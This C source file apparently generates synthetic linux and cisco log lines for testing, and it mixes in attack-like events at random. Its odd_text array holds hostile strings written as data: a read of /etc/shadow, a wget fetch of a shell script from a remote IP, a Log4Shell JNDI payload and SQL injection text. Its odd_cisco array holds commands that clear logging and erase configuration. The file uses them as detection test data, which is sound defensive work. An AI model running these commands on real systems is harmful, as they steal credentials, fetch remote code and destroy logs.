/* SPDX-License-Identifier: Apache-2.0 */
/* Lanes of text. */
#include "base/attr.h"
#include "cli/lane_text.h"

#define PER_TICK	40		/* Events in two seconds. */
#define PROSE		2330		/* Bytes of text in a line. */
#define ATTACKS		50		/* One event in so many is odd. */

static const char *const words[] = {
	"accepted", "agent", "answer", "backend", "batch", "bucket", "cache",
	"carrier", "checked", "client", "closed", "config", "connection",
	"cycle", "daemon", "degraded", "delivered", "depot", "device",
	"dispatch", "driver", "elapsed", "endpoint", "entry", "expired",
	"fleet", "flush", "frame", "gateway", "handler", "header", "health",
	"index", "ingest", "journal", "kernel", "latency", "ledger", "lookup",
	"message", "metrics", "mirror", "module", "network", "offset",
	"operator", "packet", "partition", "payload", "pending", "policy",
	"portal", "position", "queue", "reading", "record", "refresh",
	"region", "replica", "request", "resolved", "retry", "route",
	"sample", "scheduler", "segment", "sensor", "session", "shard",
	"signal", "snapshot", "source", "state", "storage", "stream", "sync",
	"telemetry", "tenant", "thread", "timer", "topic", "transfer",
	"trip", "update", "upload", "vehicle", "version", "volume", "watcher",
	"window", "worker", "writer", "zone",
};

static const char *const odd_text[] = {
	"cat /etc/shadow", "mimikatz", "segfault at 0 ip",
	"wget http://198.51.100.7/x.sh -O /tmp/x.sh", "UNION SELECT",
	"${jndi:ldap://198.51.100.7/a}", "Dumping Creds",
};

static const char *const cisco[] = {
	"%ASA-6-302013: Built outbound TCP connection",
	"%ASA-6-302014: Teardown TCP connection",
	"%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: op] on line",
	"%LINEPROTO-5-UPDOWN: Line protocol on interface, changed",
	"%SYS-5-CONFIG_I: Configured from console by op on line",
};
static const char *const odd_cisco[] = {
	"command exec: show running-config", "command exec: clear logging",
	"command exec: no logging", "command exec: crypto pki export",
	"command exec: erase startup-config",
};

void
lane_text_prose(struct lane *l, const struct lane_how *how)
{

	while (l->n < how->n && l->failed == RC_OK) {
		size_t end = PROSE;

		lane_head(l, l->n / PER_TICK);
		buf_text(&l->text, ",\"product\":\"linux\","
		    "\"message\":\"");
		end += l->text.n;
		if (lane_pick(l, ATTACKS) == 0)
			lane_word(l, "", odd_text, COUNT_OF(odd_text));
		while (l->text.n < end && !l->text.failed)
			lane_word(l, l->text.n % 8 == 0 ? "=" : " ", words,
			    COUNT_OF(words));
		buf_text(&l->text, "\"}");
		lane_line(l);
	}
}

void
lane_text_cisco(struct lane *l, const struct lane_how *how)
{

	while (l->n < how->n && l->failed == RC_OK) {
		bool odd = lane_pick(l, ATTACKS) == 0;

		lane_head(l, l->n / PER_TICK);
		lane_roll(l, ",\"product\":\"cisco\","
		    "\"message\":\"<189> sw", 10, 90);
		if (odd)
			lane_word(l, " ", odd_cisco, COUNT_OF(odd_cisco));
		else
			lane_word(l, " ", cisco, COUNT_OF(cisco));
		lane_roll(l, " vty", 10, 90);
		buf_text(&l->text, "\"}");
		lane_line(l);
	}
}
